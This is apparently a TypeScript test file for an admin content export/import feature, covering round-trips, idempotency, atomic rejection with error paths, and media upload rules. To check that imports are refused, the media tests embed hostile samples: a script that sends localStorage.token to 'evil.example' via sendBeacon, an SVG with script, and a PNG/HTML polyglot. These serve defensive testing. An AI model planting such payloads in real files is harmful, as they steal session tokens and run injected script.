/**
 * The content document (`src/contracts/admin/content-document.ts`): export -> import into an empty organization ->
 * export gives the same document; import is idempotent by key; one bad item changes nothing and is named by its
 * JSON path; the admin API's export and import speak the same document, for operators only.
 */
import { count, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONTENT_DOCUMENT_LISTS, ContentDocumentSchema, type ContentDocument } from '../../src/contracts/admin/content-document';
import { auditLog, challenges, media } from '../../server/db/schema';
import { exportContentDocument, importContentDocument } from '../../server/areas/console/content-document.service';
import { createOrganization } from '../../server/seed/factories';
import { memoryStorage } from '../../server/lib/storage/media-storage';
import { createTestContext, type TestContext } from './helpers';

const OPERATOR = 'ops@alpine-racing.example';

/** How many items the document's lists hold together. */
let t: TestContext;
let ops: string;
beforeAll(async () => {
  t = await createTestContext({ env: { OPERATOR_EMAILS: OPERATOR } });
  ops = await t.signIn(OPERATOR);
});
afterAll(async () => t.close());

const exportOf = (organizationId: string) =>
  exportContentDocument(t.db, { organizationId, storage: memoryStorage(), now: t.clock(), mediaFiles: 'inline' });
const itemCount = (document: ContentDocument) => CONTENT_DOCUMENT_LISTS.reduce((n, list) => n + document[list].length, 0);
const withoutDate = ({ exportedAt: _, ...rest }: ContentDocument) => rest;
const emptyOrganization = (name: string) => createOrganization(t.db, { name, publicKey: `pk_${name}_${Date.now()}` });
const actorOf = (organizationId: string) => ({ id: null, email: 'test', organizationId });
const rowsOf = async (organizationId: string) => [
  (await t.db.select({ n: count() }).from(challenges).where(eq(challenges.organizationId, organizationId)))[0].n,
  (await t.db.select({ n: count() }).from(media).where(eq(media.organizationId, organizationId)))[0].n,
  (await t.db.select({ n: count() }).from(auditLog).where(eq(auditLog.organizationId, organizationId)))[0].n,
];

describe('the content document', () => {
  it('exports the organization as a valid document whose items have keys and refer to media by key', async () => {
    const document = ContentDocumentSchema.parse(await exportOf(t.organization.id));
    expect(document.challenges.length).toBeGreaterThanOrEqual(12);
    expect(document.challenges.every((c) => typeof c.key === 'string')).toBe(true);
    const mediaKeys = new Set(document.media.map((m) => m.key));
    const refs = document.challenges.flatMap((c) => (typeof c.mediaId === 'string' ? [c.mediaId] : []));
    expect(refs.length).toBeGreaterThan(0);
    expect(refs.every((key) => mediaKeys.has(key))).toBe(true);
    expect(document.media.every((m) => typeof m.data === 'string' && m.data.length > 0)).toBe(true);
  });

  it('round-trips: export, import into an empty organization, export again gives the same document', async () => {
    const first = await exportOf(t.organization.id);
    const target = await emptyOrganization('roundtrip');
    const summary = await importContentDocument(t.db, first, {
      organizationId: target.id,
      actor: actorOf(target.id),
      now: t.clock(),
      readFile: null,
    });
    // Every item is new but the ranks, which every organization has (they are updated).
    expect(summary.created).toBe(itemCount(first) - first.ranks.length);
    expect(first.organization?.name).toBe('Alpine Racing');
    const second = await exportOf(target.id);
    expect(withoutDate(second)).toEqual(withoutDate(first));
  });

  it('is idempotent by key: importing the same document again changes nothing', async () => {
    const document = await exportOf(t.organization.id);
    const target = await emptyOrganization('idempotent');
    const options = { organizationId: target.id, actor: actorOf(target.id), now: t.clock(), readFile: null };
    await importContentDocument(t.db, document, options);
    const before = await rowsOf(target.id);
    const again = await importContentDocument(t.db, document, options);
    expect(again).toMatchObject({ created: 0, updated: 0, unchanged: itemCount(document) });
    // Only the import's own audit entry is new.
    const after = await rowsOf(target.id);
    expect(after).toEqual([before[0], before[1], before[2] + 1]);

    document.challenges[0] = { ...document.challenges[0], title: 'A new title for the season' };
    const edited = await importContentDocument(t.db, document, options);
    expect(edited).toMatchObject({ created: 0, updated: 1 });
  });

  it('changes nothing when one item is bad, and names every problem by its JSON path', async () => {
    const document = await exportOf(t.organization.id);
    const target = await emptyOrganization('atomic');
    const before = await rowsOf(target.id);
    const last = document.challenges.length - 1;
    document.challenges[last] = {
      ...document.challenges[last],
      options: [{ text: 'Alone', points: 1 }],
      type: 'poll',
      subtype: 'poll',
      questions: [],
      keywords: [],
    };
    document.challenges[1] = { ...document.challenges[1], mediaId: 'no-such-image' };
    const error = await importContentDocument(t.db, document, {
      organizationId: target.id,
      actor: actorOf(target.id),
      now: t.clock(),
      readFile: null,
    }).catch((e) => e);
    expect(error.status).toBe(422);
    const paths = error.details.map((d: { path: string }) => d.path);
    expect(paths).toContain(`challenges.${last}.options`);
    expect(paths).toContain('challenges.1.mediaId');
    expect(await rowsOf(target.id)).toEqual(before);
  });

  it('refuses what is not a content document', async () => {
    const error = await importContentDocument(
      t.db,
      { format: 'other', version: 1 },
      { organizationId: t.organization.id, actor: actorOf(t.organization.id), now: t.clock(), readFile: null },
    ).catch((e) => e);
    expect(error.status).toBe(422);
    expect(error.details.map((d: { path: string }) => d.path)).toEqual(expect.arrayContaining(['format', 'exportedAt']));
  });
});

describe('export and import in the admin API', () => {
  it('exports for operators and imports the same document back without changes', async () => {
    const exported = await t.request('GET', '/api/admin/export', { token: ops });
    expect(exported.status).toBe(200);
    const document = ContentDocumentSchema.parse(exported.body.data);
    const first = await t.request('POST', '/api/admin/import', { token: ops, body: document });
    expect(first.status).toBe(200);
    // Items are matched by the keys the export gave them (the first import stores keys the seed never set).
    expect(first.body.data.created).toBe(0);
    const again = await t.request('POST', '/api/admin/import', { token: ops, body: document });
    expect(again.body.data).toMatchObject({ created: 0, updated: 0, unchanged: itemCount(document) });
    const log = await t.request('GET', '/api/admin/audit-log?entity=content', { token: ops });
    expect(log.body.data[0]).toMatchObject({ action: 'import', actorEmail: OPERATOR });
  });

  it('answers a bad document with 422 and the paths of its problems', async () => {
    const document = ContentDocumentSchema.parse((await t.request('GET', '/api/admin/export', { token: ops })).body.data);
    document.challenges[0] = { ...document.challenges[0], title: '' };
    const res = await t.request('POST', '/api/admin/import', { token: ops, body: document });
    expect(res.status).toBe(422);
    expect(res.body.error.details).toContainEqual(expect.objectContaining({ path: 'challenges.0.title' }));
  });
});

describe('imported media follow the upload rules', () => {
  /** A document holding only `media` (bytes inline). */
  const documentWith = (entries: Array<{ key: string; contentType: string; bytes: Uint8Array }>) => ({
    format: 'podium-content',
    version: 1,
    exportedAt: t.clock().toISOString(),
    media: entries.map(({ key, contentType, bytes }) => ({ key, name: null, contentType, data: Buffer.from(bytes).toString('base64') })),
  });
  const png = () =>
    sharp({ create: { width: 8, height: 8, channels: 3, background: '#0a6cff' } })
      .png()
      .toBuffer();

  it('refuses HTML, JavaScript, SVG with script, bytes that only start like a PNG and an image past 10 MB: 422 naming each, nothing written', async () => {
    const head = (await png()).subarray(0, 33);
    const document = documentWith([
      { key: 'page', contentType: 'text/html', bytes: Buffer.from('<!doctype html><html><script>fetch("/api/user/me")</script></html>') },
      {
        key: 'script',
        contentType: 'application/javascript',
        bytes: Buffer.from('navigator.sendBeacon("https://evil.example", localStorage.token)'),
      },
      {
        key: 'logo',
        contentType: 'image/svg+xml',
        bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      },
      { key: 'polyglot', contentType: 'image/png', bytes: Buffer.concat([head, Buffer.from('<html><script>alert(1)</script></html>')]) },
      { key: 'huge', contentType: 'image/png', bytes: Buffer.concat([head, Buffer.alloc(10 * 1024 * 1024)]) },
      { key: 'fine', contentType: 'image/png', bytes: await png() },
    ]);
    const before = await rowsOf(t.organization.id);
    const res = await t.request('POST', '/api/admin/import', { token: ops, body: document });
    expect(res.status).toBe(422);
    expect(res.body.error.details.map((d: { path: string }) => d.path)).toEqual([
      'media.0.data',
      'media.1.data',
      'media.2.data',
      'media.3.data',
      'media.4.data',
    ]);
    expect(await rowsOf(t.organization.id)).toEqual(before);
  });

  it('stores an imported photo re-encoded, without its EXIF (GPS position, author)', async () => {
    const photo = await sharp({ create: { width: 30, height: 10, channels: 3, background: '#c0ffee' } })
      .jpeg()
      .withExif({ IFD0: { Artist: 'Erika Mustermann' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 8/1 3/1' } })
      .toBuffer();
    expect((await sharp(photo).metadata()).exif?.toString('latin1')).toContain('Erika Mustermann');
    const res = await t.request('POST', '/api/admin/import', {
      token: ops,
      body: documentWith([{ key: 'team-photo', contentType: 'image/jpeg', bytes: photo }]),
    });
    expect(res.status).toBe(200);
    const [item] = (await t.request('GET', '/api/admin/media?q=team-photo', { token: ops })).body.data;
    expect(item).toMatchObject({ key: 'team-photo', contentType: 'image/jpeg', width: 30, height: 10 });
    const stored = Buffer.from(await (await t.app.request(item.url)).arrayBuffer());
    expect((await sharp(stored).metadata()).exif).toBeUndefined();
    expect(stored.includes('Erika')).toBe(false);
  });
});
